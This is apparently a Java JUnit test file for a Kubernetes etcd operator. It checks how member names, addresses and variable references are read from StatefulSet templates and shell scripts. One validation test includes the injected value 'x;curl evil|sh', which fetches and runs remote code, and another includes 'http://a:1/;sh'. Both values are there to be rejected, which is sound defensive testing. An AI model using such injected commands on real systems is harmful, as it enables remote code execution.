package io.quorate.kubernetes;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.ContainerBuilder;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.EnvVarBuilder;
import io.fabric8.kubernetes.api.model.ObjectMeta;
import io.fabric8.kubernetes.api.model.ObjectMetaBuilder;
import io.fabric8.kubernetes.api.model.apps.StatefulSet;
import io.fabric8.kubernetes.client.utils.Serialization;
import io.quorate.cluster.MemberName;
import io.quorate.kubernetes.SetMembers.SetMember;
import io.quorate.port.Failure;
import java.net.URI;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Settings and addresses that a template gives to etcd. */
class SetMembersTest {
  private static final ObjectMeta POD =
      new ObjectMetaBuilder()
          .withName("etcd-1")
          .withNamespace("db")
          .withAnnotations(Map.of("quorate.io/initial-cluster-state", "existing"))
          .build();

  @Test
  void namesAMemberForEachOrdinal() {
    assertThat(SetMembers.of(List.of(set(3, FLAGS))))
        .extracting(SetMember::name)
        .containsExactly(
            new MemberName("etcd-0"), new MemberName("etcd-1"), new MemberName("etcd-2"));
  }

  @Test
  void takesTheAddressesFromTheFlagsOfTheTemplate() {
    assertThat(SetMembers.of(List.of(set(1, FLAGS))))
        .containsExactly(
            new SetMember(
                new MemberName("etcd-0"),
                "etcd-0",
                URI.create("http://etcd-0.etcd:2380"),
                URI.create("http://etcd-0.etcd.db.svc:2379"),
                Optional.of(URI.create("http://etcd-0.etcd.db.svc:2381"))));
  }

  /** Quorate may run in a namespace that has another cluster of the same manifest. */
  @ParameterizedTest
  @CsvSource({
    "$(POD), etcd-0.etcd.db.svc",
    "$(POD).etcd, etcd-0.etcd.db.svc",
    "client, client.db.svc",
    "$(POD).etcd.db, etcd-0.etcd.db",
    "client.db, client.db",
    "$(POD).etcd.db.svc.cluster.local, etcd-0.etcd.db.svc.cluster.local",
    "10.0.0.1, 10.0.0.1",
    "[fd00::1], [fd00::1]",
    "etcd-0.example.com, etcd-0.example.com"
  })
  void aShortNameIsOfTheNamespaceOfTheSet(String told, String host) {
    String args =
        FLAGS.replace(
            "--advertise-client-urls=http://$(POD).etcd:2379",
            "'--advertise-client-urls=http://" + told + ":2379'");
    SetMember member = SetMembers.of(List.of(set(1, args))).getFirst();

    assertThat(member.clientUrl()).hasHost(host);
    assertThat(member.metricsUrl().orElseThrow()).hasHost(host);
    assertThat(member.peerUrl()).hasHost("etcd-0.etcd");
  }

  @Test
  void asksForAddressesThatTheTemplateDoesNotTell() {
    assertThatThrownBy(() -> SetMembers.of(List.of(set(1, "[--name=$(POD)]"))))
        .isInstanceOf(Failure.Fault.class)
        .hasMessageContaining(
            "the template of the StatefulSet db/etcd has no --advertise-client-urls")
        .hasMessageContaining("under members in quorate.yml");
  }

  /** People paste commands with the name of a member into a shell. */
  @Test
  void refusesANameThatNoConfigurationMayHave() {
    for (String name : List.of("x;curl evil|sh", " ", "a=b", "$(NOT_THERE)")) {
      String args = FLAGS.replace("--name=$(POD)", "'--name=" + name + "'");
      assertThatThrownBy(() -> SetMembers.of(List.of(set(1, args))))
          .as(name)
          .isInstanceOf(Failure.Fault.class)
          .hasMessageContaining("the template of the StatefulSet db/etcd gives etcd the name");
    }
  }

  @Test
  void takesNoUrlThatEtcdWouldNotTake() {
    for (String url :
        List.of("HTTP://a:1", "http://a:1/;sh", "http://u@a:1", "http://a", "ftp://a:1")) {
      String args = FLAGS.replace("http://$(POD).etcd:2379", url);
      assertThatThrownBy(() -> SetMembers.of(List.of(set(1, args))))
          .as(url)
          .isInstanceOf(Failure.Fault.class)
          .hasMessageContaining("has no --advertise-client-urls that can be read");
    }
  }

  /** The controller adds the label to pods; no template has the label. */
  @Test
  void thePodIndexIsKnownAndAForeignLabelIsNot() {
    StatefulSet set = set(2, FLAGS.replace("--name=$(POD)", "--name=n$(INDEX), --data-dir=$(X)"));
    Container etcd = set.getSpec().getTemplate().getSpec().getContainers().getLast();
    etcd.getEnv().add(label("INDEX", "apps.kubernetes.io/pod-index"));
    etcd.getEnv().add(label("X", "topology.kubernetes.io/zone"));

    assertThat(SetMembers.of(List.of(set)))
        .extracting(SetMember::name)
        .containsExactly(new MemberName("n0"), new MemberName("n1"));
    assertThat(SetMembers.settings(set, "etcd-1").unknown()).contains("ETCD_DATA_DIR");
  }

  private static EnvVar label(String name, String label) {
    return new EnvVarBuilder()
        .withName(name)
        .withNewValueFrom()
        .withNewFieldRef()
        .withFieldPath("metadata.labels['%s']".formatted(label))
        .endFieldRef()
        .endValueFrom()
        .build();
  }

  @Test
  void leavesOutAnAddressForMetricsThatCannotBeRead() {
    String args = FLAGS.replace("http://0.0.0.0:2381", "a b");
    assertThat(SetMembers.of(List.of(set(1, args))).getFirst().metricsUrl()).isEmpty();
  }

  /**
   * Sixteen references of one variable to the variable before make 3e11 characters in eight steps.
   */
  @Test
  void boundsWhatReferencesAddToEachOther() {
    ContainerBuilder container = new ContainerBuilder().withCommand("etcd");
    container.addNewEnv().withName("V0").withValue("x".repeat(64)).endEnv();
    for (int number = 1; number < 10; number++) {
      String before = "$(V%d)".formatted(number - 1).repeat(16);
      container.addNewEnv().withName("V" + number).withValue(before).endEnv();
    }
    container.addNewEnv().withName("ETCD_DATA_DIR").withValue("$(V9)".repeat(16)).endEnv();
    container.withArgs("--name=$(V9)$(V9)", "--wal-dir=" + "${V9}".repeat(16));
    ContainerSettings settings = ContainerSettings.of(container.build(), POD);
    assertThat(settings.values().values()).allMatch(value -> value.length() < 200_000);
  }

  @Test
  void resolvesReferencesAsTheKubeletDoes() {
    ContainerSettings settings =
        ContainerSettings.of(
            new ContainerBuilder()
                .withCommand("/usr/local/bin/etcd")
                .withArgs("--name=$(POD)", "--log-level", "$$(POD)", "--data-dir=$(NOT_THERE)")
                .addNewEnv()
                .withName("POD")
                .withNewValueFrom()
                .withNewFieldRef()
                .withFieldPath("metadata.name")
                .endFieldRef()
                .endValueFrom()
                .endEnv()
                .addNewEnv()
                .withName("ETCD_INITIAL_CLUSTER_STATE")
                .withNewValueFrom()
                .withNewFieldRef()
                .withFieldPath("metadata.annotations['quorate.io/initial-cluster-state']")
                .endFieldRef()
                .endValueFrom()
                .endEnv()
                .addNewEnv()
                .withName("ETCD_INITIAL_ADVERTISE_PEER_URLS")
                .withValue("http://$(POD).etcd:2380")
                .endEnv()
                .build(),
            POD);
    assertThat(settings.values())
        .isEqualTo(
            Map.of(
                "ETCD_NAME", "etcd-1",
                "ETCD_LOG_LEVEL", "$(POD)",
                "ETCD_DATA_DIR", "$(NOT_THERE)",
                "ETCD_INITIAL_CLUSTER_STATE", "existing",
                "ETCD_INITIAL_ADVERTISE_PEER_URLS", "http://etcd-1.etcd:2380"));
    assertThat(settings.isShell()).isFalse();
  }

  /** The persistent layout of the field starts etcd in a script. */
  @Test
  void readsTheFlagsOfAShellEntryPointAndNamesTheShell() {
    ContainerSettings settings =
        ContainerSettings.of(
            new ContainerBuilder()
                .withCommand("/bin/sh", "-ec")
                .withArgs(
                    """
                    exec etcd --name $HOSTNAME \\
                      --advertise-client-urls "http://${HOSTNAME}.etcd:2379" \\
                      --data-dir /data
                    """)
                .build(),
            POD);
    assertThat(settings.isShell()).isTrue();
    assertThat(settings.value("ETCD_NAME")).contains("etcd-1");
    assertThat(settings.value("ETCD_ADVERTISE_CLIENT_URLS")).contains("http://etcd-1.etcd:2379");
    assertThat(settings.value("ETCD_DATA_DIR")).contains("/data");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "exec etcd --name=\"${HOSTNAME}\" --data-dir=\"/data\""
            + " --advertise-client-urls=\"http://$HOSTNAME.etcd:2379\"",
        "exec etcd --name='etcd-1' --data-dir='/data' \\\n"
            + " --advertise-client-urls=http://$(hostname).etcd:2379",
        "exec etcd --name $(hostname -s) --data-dir /data --advertise-client-urls"
            + " http://`hostname`.etcd:2379",
        "HOSTNAME=$(hostname)\n"
            + "exec etcd --name=$HOSTNAME --data-dir=/data"
            + " --advertise-client-urls=http://${HOSTNAME}.etcd:2379",
      })
  void readsTheWordsOfAScriptAsAShellDoes(String script) {
    ContainerSettings settings =
        ContainerSettings.of(new ContainerBuilder().withCommand("sh", "-c", script).build(), POD);
    assertThat(settings.values())
        .isEqualTo(
            Map.of(
                "ETCD_NAME", "etcd-1",
                "ETCD_DATA_DIR", "/data",
                "ETCD_ADVERTISE_CLIENT_URLS", "http://etcd-1.etcd:2379"));
    assertThat(settings.unknown()).isEmpty();
  }

  private static final String FLAGS =
      "[--name=$(POD), --listen-metrics-urls=http://0.0.0.0:2381,"
          + " --advertise-client-urls=http://$(POD).etcd:2379,"
          + " --initial-advertise-peer-urls=http://$(POD).etcd:2380]";

  private static StatefulSet set(int replicas, String args) {
    return Serialization.unmarshal(
        """
        apiVersion: apps/v1
        kind: StatefulSet
        metadata: {name: etcd, namespace: db}
        spec:
          serviceName: etcd
          replicas: %d
          selector: {matchLabels: {app: etcd}}
          template:
            metadata: {labels: {app: etcd}}
            spec:
              containers:
              - {name: proxy, image: proxy}
              - name: etcd
                image: etcd
                env:
                - {name: POD, valueFrom: {fieldRef: {fieldPath: metadata.name}}}
                args: %s
        """
            .formatted(replicas, args),
        StatefulSet.class);
  }
}
